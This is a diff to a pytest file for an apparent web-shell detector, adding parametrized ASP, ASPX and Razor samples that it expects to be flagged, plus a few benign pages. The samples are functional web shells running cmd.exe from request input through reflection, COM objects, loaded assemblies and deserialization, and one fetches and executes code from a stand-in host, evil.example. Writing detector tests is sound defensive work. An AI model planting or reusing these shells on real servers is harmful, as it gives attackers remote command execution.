@@ -225,3 +225,58 @@ def test_benign_asp_search_page_with_a_templated_command_text():
     assert_benign('<%\nSet cm = Server.CreateObject("ADODB.Command")\ncm.ActiveConnection = Application("conn")\n'
                   'q = Replace(Request("q"), "\'", "\'\'")\ncm.CommandText = "SELECT title FROM news WHERE title LIKE \'%" & q & "%\'"\n'
                   'Set rs = cm.Execute\n%>')
+
+
+# --- objects by class id, reflection, assemblies by path ---------------------------------------------------
+
+MORE = {
+    "getobject-new-clsid": ("x.asp", '<%Set o = GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8")\no.Run Request("c"), 0, True%>'),
+    "versioned-progid": ("x.asp", '<%Set o = CreateObject("WScript.Shell.1")\no.Run Request("c")%>'),
+    "jscript-shell-application": ("x.asp", '<%@ LANGUAGE="JScript" %><% new ActiveXObject("Shell.Application").ShellExecute("cmd.exe",'
+                                           ' "/c " + Request("c"), "", "open", 0); %>'),
+    "application-execute": ("x.asp", '<%Application("x") = Request("x")\nExecute Application("x")%>'),
+    "xmlhttp-execute": ("x.asp", '<%Set o = CreateObject("MSXML2.ServerXMLHTTP")\no.open "GET", Request("u"), False\no.send\nExecute o.responseText%>'),
+    "xmlhttp-const-execute": ("x.asp", '<%Set o = CreateObject("MSXML2.ServerXMLHTTP")\no.open "GET", "http://evil.example/x.txt", False\n'
+                                       'o.send\nExecuteGlobal o.responseText%>'),
+    "gettype-qualified": ("x.aspx", '<%@ Page Language="C#" %><% Type t = Type.GetType("System.Diagnostics.Process, System, Version=4.0.0.0,'
+                                    ' Culture=neutral, PublicKeyToken=b77a5c561934e089"); t.GetMethod("Start", new Type[] { typeof(string),'
+                                    ' typeof(string) }).Invoke(null, new object[] { "cmd.exe", "/c " + Request["c"] }); %>'),
+    "activator-properties": ("x.aspx", '<%@ Page Language="C#" %><% object p = Activator.CreateInstance(Type.GetType("System.Diagnostics.Process"));'
+                                       ' object si = p.GetType().GetProperty("StartInfo").GetValue(p, null); si.GetType().GetProperty("FileName")'
+                                       '.SetValue(si, "cmd.exe", null); si.GetType().GetProperty("Arguments").SetValue(si, "/c " + Request["c"], null);'
+                                       ' p.GetType().GetMethod("Start", new Type[0]).Invoke(p, null); %>'),
+    "uploaded-assembly": ("x.aspx", '<%@ Page Language="C#" %><% var f = Request.Files[0]; byte[] b = new byte[f.ContentLength];'
+                                    ' f.InputStream.Read(b, 0, b.Length); System.Reflection.Assembly.Load(b).CreateInstance("X"); %>'),
+    "execute-assembly": ("x.aspx", '<%@ Page Language="C#" %><% AppDomain.CurrentDomain.ExecuteAssembly(Request["p"]); %>'),
+    "loadfile-entrypoint": ("x.aspx", '<%@ Page Language="C#" %><% System.Reflection.Assembly.LoadFile(Request["p"]).EntryPoint.Invoke(null, null); %>'),
+    "objectstateformatter": ("x.aspx", '<%@ Page Language="C#" %><% new System.Web.UI.ObjectStateFormatter().Deserialize(Request["v"]); %>'),
+    "unvalidated": ("x.aspx", '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Unvalidated["c"]); %>'),
+    "request-context": ("x.aspx", '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " +'
+                                  ' Request.RequestContext.HttpContext.Request["c"]); %>'),
+    "allkeys": ("x.aspx", '<%@ Page Language="C#" %><% string k = Request.Form.AllKeys[0]; System.Diagnostics.Process.Start("cmd.exe",'
+                          ' "/c " + Request.Form[k]); %>'),
+    "vb-shell": ("x.aspx", '<%@ Page Language="VB" %><% Shell("cmd.exe /c " & Request.Form("c"), AppWinStyle.Hide) %>'),
+    "jscript-net-process": ("x.aspx", '<%@ Page Language="JScript" %><% var c = new System.Diagnostics.ProcessStartInfo("cmd");'
+                                      ' var e = new System.Diagnostics.Process(); c.UseShellExecute = false; c.RedirectStandardOutput = true;'
+                                      ' e.StartInfo = c; c.Arguments = "/c " + Request.Item["c"]; e.Start();'
+                                      ' Response.Write(e.StandardOutput.ReadToEnd()); %>'),
+    "razor": ("x.cshtml", '@{ var c = Request["c"]; if (c != null) { var p = System.Diagnostics.Process.Start(new'
+                          ' System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c) { RedirectStandardOutput = true,'
+                          ' UseShellExecute = false }); @p.StandardOutput.ReadToEnd() } }'),
+}
+
+
+@pytest.mark.parametrize("case", sorted(MORE))
+def test_objects_reflection_assemblies(case):
+    name, text = MORE[case]
+    assert_shell(text, name)
+
+
+def test_benign_page_setting_a_settings_property_by_reflection():
+    assert_benign('<%@ Page Language="C#" %><% object s = Session["prefs"]; var pi = s.GetType().GetProperty(Request["field"]);'
+                  ' if (pi != null && pi.Name != "IsAdmin") pi.SetValue(s, Request["value"], null); %>', "x.aspx")
+
+
+def test_benign_asp_wmi_disk_report():
+    assert_benign('<%\nSet w = GetObject("winmgmts:\\\\.\\root\\cimv2")\nFor Each d In w.ExecQuery("SELECT * FROM Win32_LogicalDisk")\n'
+                  'Response.Write Server.HTMLEncode(d.DeviceID & " " & d.FreeSpace & " " & Request("unit")) & "<br>"\nNext\n%>')
